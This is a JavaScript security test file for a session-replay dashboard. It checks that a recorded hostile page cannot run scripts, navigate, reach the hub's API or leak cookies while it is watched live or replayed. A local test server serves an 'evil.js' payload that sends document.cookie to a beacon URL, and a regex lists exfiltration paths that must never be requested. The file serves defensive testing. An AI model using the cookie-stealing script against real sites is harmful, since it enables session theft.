// The dashboard is a hostile-content viewer: a visitor page full of markup that tries to run
// scripts, load things, navigate and reach the hub's API is recorded, then watched live and
// replayed by a signed-in user. Nothing of it may run in the dashboard or act with its cookie.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { addText, openVisitor, replayText, setup, sleep, waitFor } from './harness.mjs';

const NONCE = 'n0nce-for-the-recorder';
/** Paths on the leak server the dashboard must never ask for, whatever the policy allows. */
const NEVER = /^\/(evil\.js|beacon|refresh|link\.css|import\.css|prefetch|form|object|embed|top-nav|self-nav|base\/)/;

let env;
let leak; // { url, hits: [{ path, cookie, referer, dest, at }] }
let visitor;
let id;

/** Answers everything (evil.js with a script that reports itself) and keeps a list of what came. */
async function startLeak() {
  const hits = [];
  let url;
  const server = createServer((req, res) => {
    hits.push({ path: req.url, cookie: req.headers.cookie ?? null, referer: req.headers.referer ?? null, dest: req.headers['sec-fetch-dest'] ?? null, at: Date.now() });
    if (req.url === '/evil.js') {
      res.writeHead(200, { 'Content-Type': 'text/javascript' });
      res.end(`window.__hostile = 'evil.js'; alert('evil.js'); fetch('${url}/beacon-script?cookie=' + encodeURIComponent(document.cookie));`);
      return;
    }
    // No content: a navigation here leaves the page where it was.
    res.writeHead(204).end();
  });
  // Dual-stack, as Chromium may try ::1 for localhost first.
  await new Promise((r) => server.listen(0, r));
  // Another host than the hub's 127.0.0.1: what a recorded page links to lives elsewhere.
  url = `http://localhost:${server.address().port}`;
  return {
    url,
    hits,
    close: () => new Promise((r) => { server.closeAllConnections(); server.close(r); }),
  };
}

before(async () => {
  leak = await startLeak();
  env = await setup({
    site: (hub) => ({
      vars: { LEAK: leak.url, NONCE },
      // The visitor's tab stays quiet (its own policy blocks everything hostile), so what reaches
      // the leak server later comes from the dashboard.
      headers: {
        'hostile.html': {
          'Content-Security-Policy': `default-src 'none'; script-src 'nonce-${NONCE}' ${hub}; connect-src ${hub} ${hub.replace('http', 'ws')}; ` +
            `style-src 'unsafe-inline'; img-src 'none'; font-src 'none'; frame-src 'none'; object-src 'none'; base-uri 'none'; form-action 'none'`,
        },
      },
    }),
  });
});

after(async () => {
  await env?.teardown();
  await leak?.close();
});

/** A dashboard page that records everything hostile it could see happen. */
async function watchPage() {
  const page = await env.browser.newPage();
  const seen = { dialogs: [], navigations: [], apiFromReplay: [] };
  page.on('dialog', (d) => { seen.dialogs.push(d.message()); d.dismiss().catch(() => {}); });
  page.on('framenavigated', (f) => { if (f === page.mainFrame()) seen.navigations.push(f.url()); });
  page.on('response', (res) => {
    const req = res.request();
    // The dashboard itself reads the API with fetch and sockets; anything else was asked for by the replayed page.
    if (req.url().startsWith(`${env.hub.url}/api/`) && !['fetch', 'xhr', 'websocket'].includes(req.resourceType())) {
      seen.apiFromReplay.push({ url: req.url(), type: req.resourceType(), status: res.status() });
    }
  });
  const response = await page.goto(`${env.hub.url}/sessions/${id}`);
  return { page, seen, headers: response.headers() };
}

/** Everything the replay could try: click its links, submit its form, wait for timers and refreshes. */
async function provoke(page) {
  await waitFor(async () => (await replayText(page)).includes('Hostile page'), { message: 'the hostile page in the replay' });
  // A person clicks the links where the scaled replay shows them…
  for (const sel of ['#js-link', '#self-link']) {
    const at = await page.evaluate((s) => {
      const frame = document.querySelector('[data-testid="player"] iframe');
      const f = frame.getBoundingClientRect();
      const scale = f.width / frame.offsetWidth;
      const r = frame.contentDocument.querySelector(s).getBoundingClientRect();
      return { x: f.left + (r.left + r.width / 2) * scale, y: f.top + (r.top + r.height / 2) * scale };
    }, sel);
    await page.mouse.click(at.x, at.y);
  }
  // …and a script of the dashboard's origin could too.
  await page.evaluate(() => {
    const doc = document.querySelector('[data-testid="player"] iframe').contentDocument;
    for (const sel of ['#js-link', '#top-link', '#submit']) doc.querySelector(sel)?.click();
  });
  // The meta refresh says 0 s; give every load, error handler and navigation time to happen.
  await sleep(1500);
}

/** What must hold of a dashboard page after it showed the hostile recording. */
async function assertNothingRan(label, { page, seen, headers }, since) {
  const state = await page.evaluate(() => {
    const frame = document.querySelector('[data-testid="player"] iframe');
    return {
      hostile: window.__hostile ?? null,
      inFrame: frame?.contentWindow?.__hostile ?? null,
      sandbox: frame?.getAttribute('sandbox'),
      location: location.href,
      frameLocation: frame?.contentWindow?.location.href,
    };
  });
  assert.equal(state.hostile, null, `${label}: a recorded script ran in the dashboard`);
  assert.equal(state.inFrame, null, `${label}: a recorded script ran in the replay`);
  assert.equal(state.sandbox, 'allow-same-origin', `${label}: the replay iframe may not run scripts`);
  assert.equal(state.location, `${env.hub.url}/sessions/${id}`, `${label}: the dashboard navigated`);
  // The replayer writes the iframe's document, which then takes the dashboard's address.
  assert.ok(['about:blank', state.location].includes(state.frameLocation), `${label}: the replay iframe navigated to ${state.frameLocation}`);
  assert.deepEqual(seen.dialogs, [], `${label}: dialogs opened`);
  assert.equal(seen.navigations.length, 1, `${label}: main frame navigations ${seen.navigations.join(', ')}`);

  const hits = leak.hits.filter((h) => h.at >= since);
  assert.deepEqual(hits.filter((h) => NEVER.test(h.path)), [], `${label}: blocked by the sandbox and the policy`);
  assert.deepEqual(hits.filter((h) => h.cookie), [], `${label}: requests with the dashboard's cookie`);
  // Chromium gives a style sheet's fetches the default policy, so they name the hub (which the
  // recorded page knows anyway: it loads the recorder from there), never the page watched.
  assert.deepEqual(hits.filter((h) => h.referer && h.referer !== `${env.hub.url}/`), [], `${label}: requests naming the watch page`);
  // What the policy lets through is images and fonts, for a faithful replay, without credentials.
  assert.deepEqual(hits.filter((h) => !['image', 'font'].includes(h.dest)), [], `${label}: requests other than images and fonts`);
  assert.ok(hits.length > 0, `${label}: the replay loaded nothing at all; is the hostile page replayed?`);

  // The replayed page may point images at the hub's API: the hub refuses them.
  assert.ok(seen.apiFromReplay.length > 0, `${label}: the replay did not even try the hub's API`);
  assert.deepEqual(seen.apiFromReplay.filter((r) => r.status !== 403), [], `${label}: API answered to the replayed page`);

  const csp = headers['content-security-policy'] ?? '';
  for (const d of ["script-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'"]) {
    assert.ok(csp.includes(d), `${label}: CSP lacks ${d}: ${csp}`);
  }
  assert.ok(!(csp.match(/script-src[^;]*/)?.[0] ?? '').includes('unsafe'), `${label}: scripts only from the hub's files`);
  assert.equal(headers['x-content-type-options'], 'nosniff');
  assert.equal(headers['referrer-policy'], 'same-origin');
}

test('the visitor side is recorded without running the hostile markup', async () => {
  ({ page: visitor, id } = await openVisitor(env.browser, env.site, '/hostile.html'));
  await addText(visitor, 'recorded-marker');
  await waitFor(async () => JSON.stringify(await env.hub.json(`/api/sessions/${id}/events`)).includes('recorded-marker'), { message: 'the hostile page stored' });
  assert.equal(await visitor.evaluate(() => window.__hostile ?? null), null, 'the site\'s own policy keeps the visitor tab quiet');
  // Its meta refresh, answered with no content, is the only thing the visitor tab asked for.
  assert.deepEqual(leak.hits.map((h) => h.path).filter((p) => p !== '/refresh'), []);
});

test('watching it live runs nothing in the dashboard', async () => {
  const since = Date.now();
  const live = await watchPage();
  await waitFor(() => live.page.evaluate(() => window.__streamdom?.state === 'live'), { message: 'live state' });
  await provoke(live.page);
  await addText(visitor, 'live-marker');
  await waitFor(async () => (await replayText(live.page)).includes('live-marker'), { message: 'the live replay to follow' });
  await assertNothingRan('live', live, since);
  await live.page.close();
});

test('replaying it from storage runs nothing in the dashboard', async () => {
  await visitor.close();
  await waitFor(async () => (await env.hub.json(`/api/sessions/${id}`)).active === false, { timeout: 15_000, message: 'the session to end' });
  const since = Date.now();
  const replay = await watchPage();
  await replay.page.locator('#speed').selectOption('8');
  await waitFor(() => replay.page.evaluate(() => window.__streamdom?.state === 'replay' || window.__streamdom?.state === 'paused'), { message: 'the replay to start' });
  await provoke(replay.page);
  await waitFor(() => replay.page.evaluate(() => window.__streamdom?.state === 'paused'), { timeout: 15_000, message: 'the replay to finish' });
  await assertNothingRan('replay', replay, since);
  await replay.page.close();
});
